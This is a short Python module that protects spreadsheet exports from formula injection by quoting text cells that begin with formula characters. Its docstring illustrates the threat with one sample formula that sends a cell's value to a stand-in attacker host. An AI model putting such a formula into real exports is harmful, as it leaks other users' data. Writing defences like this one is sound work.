"""Spreadsheet cells that cannot become formulas (CSV/formula injection).

A text that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel, LibreOffice and Google
Sheets as a formula, so an address typed as `=HYPERLINK("http://evil.example/?x="&A1,"klik")` would run in another
user's export. As OWASP's CSV-injection guidance advises, such text gets a leading single quote: the cell shows the
text literally and nothing is evaluated. Only text is touched: numbers, dates and empty cells pass unchanged, so a
negative amount written as a number stays a number.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """The value as it may be written to a CSV or XLSX cell: text that a spreadsheet would evaluate is quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
